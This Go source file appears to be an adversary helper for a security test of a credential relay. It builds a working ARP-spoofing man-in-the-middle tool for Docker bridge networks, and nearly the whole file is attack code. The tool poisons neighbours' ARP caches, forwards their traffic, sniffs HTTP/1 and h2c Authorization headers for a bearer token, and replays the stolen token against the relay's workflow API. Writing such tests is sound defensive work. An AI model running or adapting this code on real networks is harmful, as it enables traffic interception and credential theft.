// Command arpspoof is a hostile neighbour container for
// TestAdversaryBridgeNeighbourRidesTheRelay: with only the capabilities
// docker gives a root container by default (CAP_NET_RAW), it tells the
// other containers of its bridge network that the gateway's address is its
// own (ARP), passes what they send the gateway on to it (so nothing
// breaks), reads the relay's per-run value from an HTTP/1 request on the
// way (an HTTP/1 request's header, or an h2c connection's first HEADERS,
// HPACK-decoded), and then sends its own request to the relay with it.
//
// Usage: arpspoof GATEWAY NAMESPACE
//
// It prints "STOLEN host:port value" and "RODE status body…" lines.
package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"regexp"
	"strings"
	"syscall"
	"time"

	"golang.org/x/net/http2/hpack"
)

func htons(v uint16) uint16 { return v<<8 | v>>8 }

var perRun = regexp.MustCompile(`Bearer (argo-cred-relay\.[A-Za-z0-9_-]{43})`)

func main() {
	gw := net.ParseIP(os.Args[1]).To4()
	ns := os.Args[2]
	ifc, err := net.InterfaceByName("eth0")
	must(err)
	addrs, _ := ifc.Addrs()
	var me net.IP
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
			me = n.IP.To4()
		}
	}
	gwMAC := learnMAC(gw)
	fmt.Printf("me %s %s, gateway %s %s\n", me, ifc.HardwareAddr, gw, gwMAC)

	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, int(htons(syscall.ETH_P_ALL)))
	must(err)
	ll := &syscall.SockaddrLinklayer{Protocol: htons(syscall.ETH_P_ALL), Ifindex: ifc.Index}
	must(syscall.Bind(fd, ll))

	go poison(fd, ll, ifc.HardwareAddr, me, gw, gwMAC)

	buf := make([]byte, 65536)
	stolen := ""
	forwarded := 0
	go func() {
		for range time.Tick(5 * time.Second) {
			fmt.Println("forwarded", forwarded)
		}
	}()
	for {
		n, _, err := syscall.Recvfrom(fd, buf, 0)
		if err != nil || n < 34 {
			continue
		}
		f := buf[:n]
		// Answer a neighbour that asks who has the gateway's address (its
		// cache's probes come to us once poisoned): we do.
		if binary.BigEndian.Uint16(f[12:14]) == 0x0806 && n >= 42 && binary.BigEndian.Uint16(f[20:22]) == 1 &&
			net.IP(f[38:42]).Equal(gw) && !net.IP(f[28:32]).Equal(gw) && !bytes.Equal(f[6:12], ifc.HardwareAddr) {
			_ = syscall.Sendto(fd, arp(2, ifc.HardwareAddr, gw, net.HardwareAddr(append([]byte{}, f[22:28]...)), net.IP(append([]byte{}, f[28:32]...))), 0, ll)
			continue
		}
		if !bytes.Equal(f[0:6], ifc.HardwareAddr) || binary.BigEndian.Uint16(f[12:14]) != 0x0800 {
			continue
		}
		ipHdr := f[14:]
		if !net.IP(ipHdr[16:20]).Equal(gw) || net.IP(ipHdr[12:16]).Equal(me) {
			continue
		}
		// Pass it on to the gateway, as if from us (a TCP checksum left to
		// the sender's offload is completed first).
		out := append([]byte{}, f...)
		copy(out[0:6], gwMAC)
		copy(out[6:12], ifc.HardwareAddr)
		ihl := int(ipHdr[0]&0x0f) * 4
		if ipHdr[9] == 6 {
			tcpChecksum(out[14:], ihl)
		}
		if err := syscall.Sendto(fd, out, 0, ll); err == nil {
			forwarded++
		} else if forwarded == 0 {
			fmt.Println("forwarding:", err)
		}
		if ipHdr[9] != 6 || stolen != "" {
			continue
		}
		tcp := ipHdr[ihl:]
		port := binary.BigEndian.Uint16(tcp[2:4])
		payload := tcp[int(tcp[12]>>4)*4:]
		if os.Getenv("ARPSPOOF_DEBUG") != "" {
			fmt.Printf("tcp %d->%d flags %#x len %d %q\n", binary.BigEndian.Uint16(tcp[0:2]), port, tcp[13], len(payload), payload[:min(len(payload), 24)])
		}
		if v := h2c(binary.BigEndian.Uint16(tcp[0:2]), binary.BigEndian.Uint32(tcp[4:8]), payload); v != "" {
			payload = []byte(v)
		}
		if m := perRun.FindSubmatch(payload); m != nil {
			stolen = string(m[1])
			addr := net.JoinHostPort(gw.String(), fmt.Sprint(port))
			fmt.Printf("STOLEN %s %s\n", addr, stolen)
			go ride(addr, stolen, ns)
		}
	}
}

// flow is an h2c connection to the gateway, followed from its preface.
type flow struct {
	next uint32 // the TCP sequence number of the next byte
	buf  []byte
	dec  *hpack.Decoder
	seen string
}

var flows = map[uint16]*flow{}

// h2c follows the h2c connections from port sport and returns the
// Authorization of a HEADERS frame once one holds it.
func h2c(sport uint16, seq uint32, payload []byte) string {
	f := flows[sport]
	if f == nil {
		if !bytes.HasPrefix(payload, []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")) {
			return ""
		}
		f = &flow{next: seq}
		f.dec = hpack.NewDecoder(4096, func(hf hpack.HeaderField) {
			if strings.EqualFold(hf.Name, "authorization") {
				f.seen = hf.Value
			}
		})
		flows[sport] = f
		fmt.Println("h2c connection from port", sport)
		payload = payload[24:]
		f.next = seq + 24
		seq += 24
	}
	if seq != f.next || len(payload) == 0 {
		return ""
	}
	f.next += uint32(len(payload))
	f.buf = append(f.buf, payload...)
	for len(f.buf) >= 9 {
		n := int(f.buf[0])<<16 | int(f.buf[1])<<8 | int(f.buf[2])
		if len(f.buf) < 9+n {
			break
		}
		typ, flags, body := f.buf[3], f.buf[4], f.buf[9:9+n]
		if typ == 1 { // HEADERS
			if flags&0x8 != 0 { // PADDED
				body = body[1 : len(body)-int(body[0])]
			}
			if flags&0x20 != 0 { // PRIORITY
				body = body[5:]
			}
			_, _ = f.dec.Write(body)
		}
		f.buf = f.buf[9+n:]
	}
	return f.seen
}

// poison asks "who has <neighbour>? tell <gateway> (at my MAC)" of the
// first addresses of the network but ours and the gateway's, every 2 ms.
// A Linux neighbour that gets an ARP request for its address records
// the sender's, so it then sends the gateway's traffic here.
func poison(fd int, ll *syscall.SockaddrLinklayer, mine net.HardwareAddr, me, gw net.IP, gwMAC net.HardwareAddr) {
	for {
		for i := 2; i < 10; i++ {
			ip := net.IPv4(gw[0], gw[1], gw[2], byte(i)).To4()
			if ip.Equal(me) {
				continue
			}
			// Docker derives a container's MAC from its IPv4 address.
			dst := net.HardwareAddr{0x02, 0x42, ip[0], ip[1], ip[2], ip[3]}
			_ = syscall.Sendto(fd, arp(1, mine, gw, dst, ip), 0, ll)
			// And tell the host each neighbour's true address ahead of
			// time, so that it need not ask (its broadcast question,
			// from the gateway's true MAC, would undo ours).
			_ = syscall.Sendto(fd, arp(1, dst, ip, gwMAC, gw), 0, ll)
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// ride sends the relay a request of our own with the stolen value.
func ride(addr, value, ns string) {
	req, _ := http.NewRequest(http.MethodGet, "http://"+addr+"/api/v1/workflows/"+ns+"?listOptions.limit=5", nil)
	req.Header.Set("Authorization", "Bearer "+value)
	req.Header.Set("X-Neighbour", "arpspoof")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		fmt.Println("RODE error", err)
		return
	}
	b, _ := io.ReadAll(io.LimitReader(res.Body, 300))
	fmt.Printf("RODE %d %s\n", res.StatusCode, strings.ReplaceAll(string(b), "\n", " "))
}

// arp is an Ethernet frame holding an ARP packet of op (1 request, 2
// reply) from sha/spa to tha/tpa.
func arp(op uint16, sha net.HardwareAddr, spa net.IP, tha net.HardwareAddr, tpa net.IP) []byte {
	b := make([]byte, 42)
	copy(b[0:6], tha)
	copy(b[6:12], sha)
	binary.BigEndian.PutUint16(b[12:14], 0x0806)
	binary.BigEndian.PutUint16(b[14:16], 1)      // Ethernet
	binary.BigEndian.PutUint16(b[16:18], 0x0800) // IPv4
	b[18], b[19] = 6, 4
	binary.BigEndian.PutUint16(b[20:22], op)
	copy(b[22:28], sha)
	copy(b[28:32], spa)
	if op == 2 {
		copy(b[32:38], tha)
	}
	copy(b[38:42], tpa)
	return b
}

// tcpChecksum recomputes the TCP checksum of the IPv4 packet p.
func tcpChecksum(p []byte, ihl int) {
	total := int(binary.BigEndian.Uint16(p[2:4]))
	if total > len(p) {
		return
	}
	seg := p[ihl:total]
	seg[16], seg[17] = 0, 0
	var sum uint32
	add := func(b []byte) {
		for i := 0; i+1 < len(b); i += 2 {
			sum += uint32(binary.BigEndian.Uint16(b[i:]))
		}
		if len(b)%2 == 1 {
			sum += uint32(b[len(b)-1]) << 8
		}
	}
	add(p[12:20])
	sum += 6 + uint32(len(seg))
	add(seg)
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(seg[16:], ^uint16(sum))
}

// learnMAC makes the kernel resolve ip and reads its answer.
func learnMAC(ip net.IP) net.HardwareAddr {
	for range 50 {
		if c, err := net.Dial("udp", net.JoinHostPort(ip.String(), "9")); err == nil {
			_, _ = c.Write([]byte("x"))
			c.Close()
		}
		time.Sleep(100 * time.Millisecond)
		f, err := os.Open("/proc/net/arp")
		must(err)
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			fs := strings.Fields(sc.Text())
			if len(fs) >= 4 && fs[0] == ip.String() && fs[3] != "00:00:00:00:00:00" {
				f.Close()
				mac, err := net.ParseMAC(fs[3])
				must(err)
				return mac
			}
		}
		f.Close()
	}
	panic("no MAC for the gateway")
}

func must(err error) {
	if err != nil {
		panic(err)
	}
}
